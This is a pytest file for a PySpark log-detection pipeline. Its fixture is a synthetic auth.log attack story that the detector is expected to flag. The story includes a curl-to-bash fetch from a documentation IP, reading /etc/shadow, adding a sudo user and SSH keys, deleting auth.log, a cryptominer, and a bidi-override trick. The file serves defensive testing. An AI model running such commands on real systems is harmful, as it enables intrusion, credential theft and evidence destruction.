from datetime import datetime, timezone

import pytest
from pyspark.sql import functions as F

from logloom.operators.canary import Canaries
from logloom.plans.ingest import Options, in_order, ingest, run_stats, to_events
from logloom.sources.lines import read_lines, with_seq

NOW = datetime(2026, 7, 30, 6, 0, tzinfo=timezone.utc)
STORY = """\
Jul 30 05:29:58 gw CRON[811]: (root) CMD (/usr/local/bin/rotate)
Jul 30 05:30:00 gw sshd[900]: Connection closed by 198.51.100.7 port 40022 [preauth]
Jul 30 05:30:03 gw kernel: [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC=203.0.113.45 DST=10.0.0.2 LEN=40 PROTO=TCP SPT=4444 DPT=22
Jul 30 05:30:05 gw sshd[901]: Invalid user decoy_admin from 198.51.100.23 port 40000
Jul 30 05:30:10 gw sshd[902]: Failed password for invalid user ada from 203.0.113.45 port 5001 ssh2
Jul 30 05:30:12 gw sshd[902]: Failed password for invalid user bob from 203.0.113.45 port 5002 ssh2
Jul 30 05:30:14 gw sshd[902]: Failed password for invalid user cyd from 203.0.113.45 port 5003 ssh2
Jul 30 05:30:16 gw sshd[902]: Failed password for root from 203.0.113.45 port 5004 ssh2
Jul 30 05:30:18 gw sshd[902]: Failed password for dan from 203.0.113.45 port 5005 ssh2
Jul 30 05:30:30 gw sshd[903]: Accepted password for dan from 203.0.113.45 port 5006 ssh2
Jul 30 05:30:31 gw sshd[903]: pam_unix(sshd:session): session opened for user dan(uid=1001)
Jul 30 05:30:40 gw sudo: dan : TTY=pts/0 ; PWD=/home/dan ; USER=root ; COMMAND=/bin/cat /etc/shadow
Jul 30 05:31:00 gw bash[77]: curl http://198.51.100.99/x | bash
Jul 30 05:31:20 gw useradd[78]: new user: name=helper, UID=1002, GID=1002
Jul 30 05:31:22 gw usermod[79]: add 'helper' to group 'sudo'
Jul 30 05:32:00 gw app[80]: wrote /home/helper/.ssh/authorized_keys
Jul 30 05:32:10 gw sudo: helper : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/cat /srv/.decoy_keys
Jul 30 05:32:20 gw bash[81]: rm -rf /var/log/auth.log
Jul 30 05:32:30 gw app[82]: started xmrig with 8 threads
Jul 30 05:33:00 gw sudo: helper : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/echo ‮evil
Jul 30 05:33:10 gw sshd[904]: Failed password for root from 192.168.1.77 port 6000 ssh2

Jul 30 05:34:01 gw app[83]: nothing to see
"""
WANT = [
    (0, "cron_job_executed", 24), (1, "ssh_preauth_disconnect", 26), (2, "ufw_block", 38), (3, "honeytoken_referenced", 100), (4, "ssh_failed_password", 54), (5, "ssh_failed_password", 54),
    (6, "ssh_failed_password", 54), (7, "ssh_failed_password", 64), (8, "ssh_failed_password", 54), (8, "correlated_brute_force", 92), (9, "ssh_accepted_login", 34),
    (9, "correlated_successful_login_after_bruteforce", 97), (10, "session_opened", 16), (11, "sudo_command_executed", 42), (12, "curl_pipe_shell", 96), (13, "new_user_created", 68),
    (14, "user_added_to_privileged_group", 74), (15, "authorized_keys_modified", 78), (16, "honeytoken_referenced", 100), (17, "log_tampering", 90), (18, "cryptominer_indicator", 92),
    (19, "sudo_command_executed", 67), (20, "ssh_failed_password", 52), (21, "", 5),
]


@pytest.fixture(scope="module")
def options():
    canaries = Canaries.of({"users": ["decoy_admin"], "paths": [{"value": "/srv/.decoy_keys", "note": "decoy"}]})
    return Options(now=NOW, canaries=canaries)


@pytest.fixture(scope="module")
def events(spark, options, tmp_path_factory):
    f = tmp_path_factory.mktemp("story") / "auth.log"
    f.write_bytes(STORY.encode())
    return ingest(spark, str(f), options).cache()


def test_story_gives_the_expected_verdicts(events):
    rows = in_order(events).collect()
    assert [(r.seq, r.rule, r.score) for r in rows] == WANT
    by = {(r.seq, r.rule): r for r in rows}
    brute = by[8, "correlated_brute_force"]
    assert brute.severity == "critical" and brute.fields["failure_count"] == "5" and brute.fields["window"] == "1m0s"
    assert brute.fields["targeted_users"] == "ada, bob, cyd, dan, root" and brute.tags[0] == "password-spraying"
    assert by[9, "correlated_successful_login_after_bruteforce"].fields["preceding_failures"] == "5"
    ufw = by[2, "ufw_block"]
    assert (ufw.source_ip, ufw.dest_ip, ufw.source_port, ufw.dest_port, ufw.fields["proto"]) == ("203.0.113.45", "10.0.0.2", 4444, 22, "TCP")
    canary = by[16, "honeytoken_referenced"]
    assert canary.fields["trigger_rule"] == "sudo_command_executed" and "T1083" in canary.mitre and canary.fields["honeytoken_field"] == "message"
    assert by[3, "honeytoken_referenced"].fields["honeytoken_field"] == "user"
    odd = by[19, "sudo_command_executed"]
    assert odd.category == "defense-evasion" and odd.sanitized and "‮" not in odd.message
    assert by[7, "ssh_failed_password"].fields["score_root_involved"] == "+10"


def test_counts(events):
    r = run_stats(events).first()
    assert (r.events, r.incidents, r.sanitised, r.unparsed, r.canaries) == (22, 2, 1, 0, 2)


def test_result_does_not_depend_on_partitions(spark, options, events, tmp_path):
    (tmp_path / "a.log").write_bytes(STORY.encode())
    want = sorted(str(r) for r in events.drop("ingested_at").collect())
    old = spark.conf.get("spark.sql.files.maxPartitionBytes")
    try:
        spark.conf.set("spark.sql.files.maxPartitionBytes", "300")
        spark.conf.set("spark.sql.files.openCostInBytes", "0")
        got = ingest(spark, str(tmp_path / "a.log"), options)
        assert sorted(str(r) for r in got.drop("ingested_at").collect()) == want
    finally:
        spark.conf.set("spark.sql.files.maxPartitionBytes", old)


CASES = [
    ("<34>Oct 11 22:14:15 mymachine su: 'su root' failed", ("rfc3164", "auth", 2, "2025-10-11 22:14:15", "mymachine", "su", 0, "'su root' failed")),
    ("<165>1 2026-07-30T05:14:15.003Z host app 321 ID47 - hello", ("rfc5424", "local4", 5, "2026-07-30 05:14:15.003", "host", "app", 321, "hello")),
    ("2026-07-30T14:00:00+09:00 box sshd[7]: hi", ("iso8601", "", -1, "2026-07-30 05:00:00", "box", "sshd", 7, "hi")),
    ("2026-07-30 14:00:00Z box sshd[7]: hi", ("iso8601", "", -1, None, "box", "sshd", 7, "hi")),
    ("Jul  3 01:02:03 sshd[7]: no host", ("rfc3164", "", -1, "2026-07-03 01:02:03", "", "sshd", 7, "no host")),
    ("Feb 29 01:02:03 h a: x", ("rfc3164", "", -1, "2026-03-01 01:02:03", "h", "a", 0, "x")),
    ("app[9]: no time", ("raw", "", -1, None, "", "app", 9, "no time")),
    ("free text without a tag", ("raw", "", -1, None, "", "", 0, "free text without a tag")),
    ("<999>odd", ("raw", "", -1, None, "", "", 0, "odd")),
    ("Jul 30 01:02:03 lone", ("rfc3164", "", -1, "2026-07-30 01:02:03", "", "", 0, "lone")),
]


def test_envelopes(spark):
    from logloom.operators.parse import parse

    df = spark.createDataFrame([(i, x) for i, (x, _) in enumerate(CASES)], "i int, clean string")
    rows = parse(df, now=NOW).orderBy("i").collect()
    for r, (_, want) in zip(rows, CASES):
        at = None if r.env_time is None else r.env_time.astimezone(timezone.utc).replace(tzinfo=None)
        assert (r.env_format, r.env_facility, r.env_level, at and str(at).removesuffix("000"), r.env_host, r.env_process, r.env_pid, r.env_message) == want


def test_sanitiser(spark):
    from logloom.functions.text import sanitise

    cases = [
        (b"plain \xe6\x97\xa5\xe6\x9c\xac", "plain 日本", ""), (b"a\x1b[31mred\x1b[0m b", "ared b", "escape"), (b"t\x1b]0;title\x07x\x1b", "tx", "escape"), (b"a\xe2\x80\xaeb", "ab", "bidi"),
        (b"tab\there", "tab here", "control"), (b"nul\x00\x7f", "nul\\x00\\x7f", "control"), (b"bad \xff\xfe end", "bad � end", "invalid_utf8"), (b"a\rb", "a\\x0db", "control"),
    ]
    df = spark.createDataFrame([(i, x) for i, (x, _, _) in enumerate(cases)], "i int, b binary").selectExpr("i", "cast(b as string) as raw")
    for r, (_, clean, flag) in zip(sanitise(df).orderBy("i").collect(), cases):
        assert r.clean == clean
        assert {f for f in ("control", "escape", "bidi", "invalid_utf8") if r[f"san_{f}"]} == ({flag} if flag else set())
    long = spark.range(1).select(F.lit("é" * 200).alias("raw"))
    r = sanitise(long, most=100).first()
    assert len(r.clean.encode()) <= 100 and r.san_truncated and r.clean.endswith("[truncated]") and r.clean.startswith("éé")


def test_addresses(spark):
    from logloom.functions import ip

    want = {"127.0.0.1": "loopback", "10.1.2.3": "private", "172.32.0.1": "public", "192.168.0.9": "private", "169.254.1.1": "link-local", "224.0.0.5": "link-local", "239.1.1.1": "multicast", "0.0.0.0": "unspecified",
            "8.8.8.8": "public", "256.1.1.1": "unknown", "01.2.3.4": "unknown", "::1": "loopback", "::": "unspecified", "fe80::1": "link-local", "ff02::1": "link-local", "ff0e::1": "multicast", "fd00::5": "private", "2001:db8::1": "public",
            "::ffff:10.0.0.1": "private", "1:2:3:4:5:6:7": "unknown", "1:2:3:4:5:6:7:8:9": "unknown", "x": "unknown"}
    df = spark.createDataFrame([(k,) for k in want], "a string")
    got = {r.a: r.s for r in df.select("a", ip.scope(F.col("a")).alias("s")).collect()}
    assert got == want
    t = spark.createDataFrame([("from 999.1.1.1 then 10.0.0.1",), ("at 10.0.0.1:22",), ("v6 2001:db8:0:0:0:0:0:1 x",), ("none",)], "t string")
    assert [r[0] for r in t.select(ip.first_ip(F.col("t"))).collect()] == ["", "10.0.0.1", "2001:db8:0:0:0:0:0:1", ""]


def test_unicode_line_separators_do_not_hide_a_payload(spark):
    line = "Jul 30 05:31:00 gw bash[77]: ポcurl http://x/ y | bash"
    df = spark.createDataFrame([(0, line)], "seq long, raw string")
    assert to_events(df, Options(now=NOW)).first().rule == "curl_pipe_shell"


def test_bytes_reach_the_fingerprint(spark, tmp_path):
    """What is no UTF-8 is flagged and kept apart; line ends go as bytes, also behind a lone lead byte."""
    import hashlib

    head = b"Jul 30 05:31:00 gw sshd[1]: Failed password for root from 203.0.113.5 port 9 ssh2"
    raws = [head + b" \xff\xfe", head + b" \xff\xff", head + b" \xe2", head, b"\xff", ("あ" * 40).encode()]
    (tmp_path / "log").write_bytes(b"\r\n".join(raws) + b"\n \n\r\n")
    lines = with_seq(read_lines(spark, str(tmp_path / "log"), 100))
    rows = to_events(lines, Options(now=NOW)).orderBy("seq").collect()
    assert [r.raw_sha256 for r in rows] == [hashlib.sha256(x[:100]).hexdigest() for x in raws]
    assert [r.sanitized for r in rows] == [True, True, True, False, True, True]
    assert len({r.score for r in rows[:3]}) == 1 and rows[0].score > rows[3].score and rows[0].rule == rows[3].rule == "ssh_failed_password"


def test_the_tail_source_keeps_bytes(tmp_path):
    from logloom.streaming.tail import TailReader

    (tmp_path / "log").write_bytes(b"a \xff\xfe\r\n\nb\nhalf")
    rows, end = TailReader({"path": str(tmp_path / "log")}).read({"inode": 0, "byte": 0, "seq": 0})
    assert list(rows) == [(0, b"a \xff\xfe"), (1, b"b")] and end["seq"] == 2
